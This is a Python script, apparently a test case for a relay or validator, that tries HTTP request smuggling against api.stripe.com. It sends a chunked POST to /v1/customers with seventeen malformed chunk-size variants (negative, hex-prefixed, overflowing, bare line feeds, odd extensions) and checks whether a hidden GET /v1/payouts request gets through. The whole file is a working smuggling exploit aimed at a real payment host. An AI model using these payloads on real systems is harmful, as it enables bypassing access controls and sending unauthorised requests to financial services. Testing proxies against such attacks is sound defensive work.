# attack: chunk sizes with signs, extensions, overflow or bare line feeds end a body earlier for one of two readers
# expect: broker
# validator: refused
import socket
import ssl


def speak(text, wait=0.15):
    """All that the relay says to these bytes on one connection."""
    plain = socket.create_connection(("api.stripe.com", 443), 1)
    with ssl.create_default_context().wrap_socket(plain, server_hostname="api.stripe.com") as tls:
        tls.settimeout(wait)
        answer = b""
        try:
            tls.sendall(text)
            while piece := tls.recv(65536):
                answer += piece
        except OSError:
            pass
        return answer


SECOND = b"GET /v1/payouts HTTP/1.1\r\nHost: api.stripe.com\r\n\r\n"
FIRST = (
    b"POST /v1/customers HTTP/1.1\r\nHost: api.stripe.com\r\nContent-Type: application/x-www-form-urlencoded\r\n"
    b"Transfer-Encoding: chunked\r\n\r\n"
)
BODIES = {
    "extension": b"6;a=b\r\nname=a\r\n0\r\n\r\n" + SECOND,
    "extension with a line feed": b"6;a=\nb\r\nname=a\r\n0\r\n\r\n" + SECOND,
    "quoted extension": b'6;a="\r\n0\r\n\r\n' + SECOND + b'"\r\nname=a\r\n0\r\n\r\n',
    "prefix": b"0x6\r\nname=a\r\n0\r\n\r\n" + SECOND,
    "plus": b"+6\r\nname=a\r\n0\r\n\r\n" + SECOND,
    "underscore": b"0_6\r\nname=a\r\n0\r\n\r\n" + SECOND,
    "overflow": b"10000000000000006\r\nname=a\r\n0\r\n\r\n" + SECOND,
    "twenty digits": b"00000000000000000006\r\nname=a\r\n0\r\n\r\n" + SECOND,
    "bare line feeds": b"6\nname=a\n0\n\n" + SECOND,
    "bare return": b"6\rname=a\r0\r\r" + SECOND,
    "no line end after the data": b"6\r\nname=a0\r\n\r\n" + SECOND,
    "data longer than said": b"4\r\nname=a\r\n0\r\n\r\n" + SECOND,
    "empty size": b"\r\nname=a\r\n0\r\n\r\n" + SECOND,
    "negative": b"-1\r\nname=a\r\n0\r\n\r\n" + SECOND,
    "blank": b" 6 \r\nname=a\r\n0\r\n\r\n" + SECOND,
    "last chunk of zeros": b"6\r\nname=a\r\n000\r\n\r\n" + SECOND,
    "text after the last": b"6\r\nname=a\r\n0\r\nX" + SECOND,
}
for name, body in BODIES.items():
    answer = speak(FIRST + body, 0.1)
    print(name, answer[:30], answer.count(b"HTTP/1.1 "))
    if b'"target": "/v1/payouts"' in answer:
        print("ESCAPED: the second request went through:", name, flush=True)
